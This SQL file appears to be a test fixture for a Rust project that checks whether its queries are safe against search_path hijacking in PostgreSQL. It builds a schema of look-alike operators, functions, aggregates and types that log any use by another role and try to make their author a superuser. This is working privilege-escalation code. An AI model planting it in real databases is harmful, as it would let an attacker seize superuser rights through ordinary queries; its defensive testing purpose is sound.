-- Trojans: a schema of operators, functions and aggregates that shadow pg_catalog's for the
-- argument types our SQL uses. Run by the role :'author' (psql-style placeholders are replaced
-- by src/trojan.rs). Each one behaves like the original, but when it runs as anyone other than
-- its author it says so in the server log (a WARNING survives a rollback), records it in
-- trojan.fired, and tries to make its author a superuser. Whoever puts `trojan` before
-- pg_catalog in a search_path (ALTER DATABASE, ALTER ROLE ... IN DATABASE, a session) reaches
-- these for every unqualified name that resolves to them.
CREATE SCHEMA trojan;
GRANT USAGE ON SCHEMA trojan TO PUBLIC;
CREATE TABLE trojan.fired (by_role text, what text, at timestamptz DEFAULT pg_catalog.now());
GRANT INSERT, SELECT ON trojan.fired TO PUBLIC;

CREATE FUNCTION trojan.spring(what text) RETURNS void
LANGUAGE plpgsql SET search_path = pg_catalog AS $f$
BEGIN
    IF current_user <> '@AUTHOR@' THEN
        RAISE WARNING 'TROJAN FIRED as % by %', current_user, what;
        INSERT INTO trojan.fired (by_role, what) VALUES (current_user, what);
        BEGIN
            EXECUTE 'ALTER ROLE @AUTHOR@ SUPERUSER';
        EXCEPTION WHEN insufficient_privilege THEN NULL;
        END;
    END IF;
END $f$;
GRANT EXECUTE ON FUNCTION trojan.spring(text) TO PUBLIC;

DO $trojans$
DECLARE
    o record;
    f record;
    n int := 0;
    args text;
    call text;
BEGIN
    -- Binary operators of pg_catalog on concrete types (an exact match in any schema on the path
    -- beats a polymorphic one in pg_catalog, and one listed before pg_catalog beats its twin).
    FOR o IN
        SELECT p.oprname, p.oprleft::regtype AS l, p.oprright::regtype AS r, p.oprresult::regtype AS res
        FROM pg_catalog.pg_operator p
        JOIN pg_catalog.pg_type lt ON lt.oid = p.oprleft
        JOIN pg_catalog.pg_type rt ON rt.oid = p.oprright
        JOIN pg_catalog.pg_type xt ON xt.oid = p.oprresult
        WHERE p.oprnamespace = 'pg_catalog'::regnamespace AND p.oprkind = 'b'
          AND p.oprname IN ('=', '<>', '<', '<=', '>', '>=', '||', '+', '-', '*', '/', '->', '->>',
                            '#>>', '#>', '@>', '<@', '?', '?|', '?&', '&&', '~', '~*', '!~', '~~', '!~~')
          AND lt.typtype IN ('b', 'e', 'r', 'm') AND rt.typtype IN ('b', 'e', 'r', 'm') AND xt.typtype IN ('b', 'e', 'r', 'm')
          AND lt.typname IN ('text', 'name', 'int2', 'int4', 'int8', 'bool', 'oid', 'jsonb', 'json', 'timestamptz',
                             'interval', 'float8', 'numeric', 'regclass', 'regrole', 'jsonpath', '_text', '_int8', '_int4', 'char', 'bpchar', 'varchar')
    LOOP
        n := n + 1;
        EXECUTE pg_catalog.format(
            'CREATE FUNCTION trojan.op_%s(a %s, b %s) RETURNS %s LANGUAGE plpgsql AS $b$ BEGIN '
            'PERFORM trojan.spring(%L); RETURN a OPERATOR(pg_catalog.%s) b; END $b$',
            n, o.l, o.r, o.res, pg_catalog.format('operator %s(%s, %s)', o.oprname, o.l, o.r), o.oprname);
        EXECUTE pg_catalog.format('CREATE OPERATOR trojan.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = trojan.op_%s)',
            o.oprname, o.l, o.r, n);
    END LOOP;
    -- Array operators, which pg_catalog has only in polymorphic forms.
    FOR o IN SELECT * FROM (VALUES ('=', 'text[]', 'text[]', 'boolean'), ('=', 'bigint[]', 'bigint[]', 'boolean'),
                                   ('&&', 'text[]', 'text[]', 'boolean'), ('@>', 'text[]', 'text[]', 'boolean'),
                                   ('||', 'text[]', 'text[]', 'text[]'), ('||', 'text[]', 'text', 'text[]'),
                                   ('||', 'bigint[]', 'bigint[]', 'bigint[]'), ('||', 'jsonb', 'jsonb', 'jsonb'))
                           v(oprname, l, r, res)
    LOOP
        n := n + 1;
        EXECUTE pg_catalog.format(
            'CREATE FUNCTION trojan.op_%s(a %s, b %s) RETURNS %s LANGUAGE plpgsql AS $b$ BEGIN '
            'PERFORM trojan.spring(%L); RETURN a OPERATOR(pg_catalog.%s) b; END $b$',
            n, o.l, o.r, o.res, pg_catalog.format('operator %s(%s, %s)', o.oprname, o.l, o.r), o.oprname);
        BEGIN
            EXECUTE pg_catalog.format('CREATE OPERATOR trojan.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = trojan.op_%s)',
                o.oprname, o.l, o.r, n);
        EXCEPTION WHEN duplicate_function THEN NULL;
        END;
    END LOOP;
    -- Functions our SQL calls, on concrete argument types (plain, non-variadic signatures).
    FOR f IN
        SELECT p.oid, p.proname, p.proretset, p.prorettype::regtype AS ret,
               pg_catalog.array_agg(t::regtype::text ORDER BY i) FILTER (WHERE t IS NOT NULL) AS types
        FROM pg_catalog.pg_proc p
        LEFT JOIN LATERAL pg_catalog.unnest(p.proargtypes::oid[]) WITH ORDINALITY u(t, i) ON true
        WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND p.provariadic = 0
          AND p.proname IN ('now', 'clock_timestamp', 'current_setting', 'set_config', 'format', 'to_timestamp',
                            'pg_backend_pid', 'cardinality', 'unnest', 'starts_with', 'octet_length', 'length',
                            'lower', 'upper', 'left', 'right', 'substr', 'split_part', 'jsonb_typeof', 'pg_notify',
                            'hashtext', 'jsonb_each', 'jsonb_object_keys', 'jsonb_array_elements', 'array_to_string',
                            'string_to_array', 'array_remove', 'array_length', 'array_lower', 'array_ndims',
                            'generate_series', 'to_jsonb', 'jsonb_path_match', 'jsonb_path_match_tz',
                            'jsonb_build_array', 'jsonb_agg', 'pg_column_size', 'quote_ident', 'quote_literal',
                            'pg_get_triggerdef', 'pg_has_role', 'has_table_privilege', 'pg_describe_object',
                            'regexp_replace', 'encode', 'decode', 'md5', 'random', 'date_part', 'age', 'jsonb_to_recordset')
        GROUP BY p.oid
    LOOP
        CONTINUE WHEN EXISTS (SELECT 1 FROM pg_catalog.unnest(coalesce(f.types, '{}')) t
                              WHERE t::regtype IN (SELECT y.oid FROM pg_catalog.pg_type y WHERE y.typtype = 'p'))
                   OR f.ret::oid IN (SELECT y.oid FROM pg_catalog.pg_type y WHERE y.typtype = 'p' AND y.typname <> 'void')
                   OR f.ret::text = 'record';
        SELECT pg_catalog.string_agg(pg_catalog.format('a%s %s', i, t), ', ' ORDER BY i),
               pg_catalog.string_agg(pg_catalog.format('a%s', i), ', ' ORDER BY i)
        INTO args, call FROM pg_catalog.unnest(coalesce(f.types, '{}')) WITH ORDINALITY u(t, i);
        BEGIN
            EXECUTE pg_catalog.format(
                'CREATE FUNCTION trojan.%I(%s) RETURNS %s%s LANGUAGE plpgsql AS $b$ BEGIN '
                'PERFORM trojan.spring(%L); %s pg_catalog.%I(%s); END $b$',
                f.proname, coalesce(args, ''), CASE WHEN f.proretset THEN 'SETOF ' ELSE '' END, f.ret,
                pg_catalog.format('function %s(%s)', f.proname, coalesce(pg_catalog.array_to_string(f.types, ', '), '')),
                CASE WHEN f.proretset THEN 'RETURN QUERY SELECT * FROM'
                     WHEN f.ret::text = 'void' THEN 'PERFORM' ELSE 'RETURN' END,
                f.proname, coalesce(call, ''));
        EXCEPTION WHEN OTHERS THEN
            RAISE NOTICE 'no trojan for %(%): %', f.proname, f.types, SQLERRM;
        END;
    END LOOP;
END $trojans$;

-- Aggregates, which the claim, the record and the housekeeping use.
CREATE FUNCTION trojan.count_step(s bigint) RETURNS bigint LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM trojan.spring('aggregate count(*)'); RETURN s + 1; END $b$;
CREATE AGGREGATE trojan.count(*) (SFUNC = trojan.count_step, STYPE = bigint, INITCOND = '0');
CREATE FUNCTION trojan.count_any_step(s bigint, x text) RETURNS bigint LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM trojan.spring('aggregate count(text)'); RETURN s + CASE WHEN x IS NULL THEN 0 ELSE 1 END; END $b$;
CREATE AGGREGATE trojan.count(text) (SFUNC = trojan.count_any_step, STYPE = bigint, INITCOND = '0');
CREATE FUNCTION trojan.agg_text_step(s text[], x text) RETURNS text[] LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM trojan.spring('aggregate array_agg(text)'); RETURN s OPERATOR(pg_catalog.||) x; END $b$;
CREATE AGGREGATE trojan.array_agg(text) (SFUNC = trojan.agg_text_step, STYPE = text[]);
CREATE FUNCTION trojan.agg_int8_step(s bigint[], x bigint) RETURNS bigint[] LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM trojan.spring('aggregate array_agg(bigint)'); RETURN s OPERATOR(pg_catalog.||) x; END $b$;
CREATE AGGREGATE trojan.array_agg(bigint) (SFUNC = trojan.agg_int8_step, STYPE = bigint[]);
CREATE FUNCTION trojan.min_text_step(s text, x text) RETURNS text LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM trojan.spring('aggregate min(text)'); RETURN CASE WHEN s IS NULL OR x OPERATOR(pg_catalog.<) s THEN x ELSE s END; END $b$;
CREATE AGGREGATE trojan.min(text) (SFUNC = trojan.min_text_step, STYPE = text);
CREATE FUNCTION trojan.sum_int8_step(s bigint, x bigint) RETURNS bigint LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM trojan.spring('aggregate sum(bigint)'); RETURN coalesce(s, 0) OPERATOR(pg_catalog.+) coalesce(x, 0); END $b$;
CREATE AGGREGATE trojan.sum(bigint) (SFUNC = trojan.sum_int8_step, STYPE = bigint);
CREATE FUNCTION trojan.bool_or_step(s boolean, x boolean) RETURNS boolean LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM trojan.spring('aggregate bool_or(boolean)'); RETURN s OR x; END $b$;
CREATE AGGREGATE trojan.bool_or(boolean) (SFUNC = trojan.bool_or_step, STYPE = boolean);

-- Types named like built-in ones, whose check runs the trojan: a statement that writes
-- `::text` under this search_path converts into one.
CREATE FUNCTION trojan.check_value(what text) RETURNS boolean LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM trojan.spring(what); RETURN true; END $b$;
CREATE DOMAIN trojan.text AS pg_catalog.text CHECK (trojan.check_value('type text'));
CREATE DOMAIN trojan.jsonb AS pg_catalog.jsonb CHECK (trojan.check_value('type jsonb'));
CREATE DOMAIN trojan.int4 AS pg_catalog.int4 CHECK (trojan.check_value('type int4'));
CREATE DOMAIN trojan.int8 AS pg_catalog.int8 CHECK (trojan.check_value('type int8'));
CREATE DOMAIN trojan.name AS pg_catalog.name CHECK (trojan.check_value('type name'));
